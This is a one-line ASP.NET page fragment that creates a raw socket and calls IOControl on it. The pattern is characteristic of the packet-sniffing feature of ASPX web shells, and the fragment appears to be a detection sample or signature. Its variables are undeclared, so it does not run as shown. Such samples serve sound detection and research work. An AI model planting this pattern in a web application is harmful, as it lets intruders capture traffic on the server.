<%@ Page Language="C#" %><% s = new Socket(f, SocketType.Raw, p); s.IOControl(c, i, o); %>
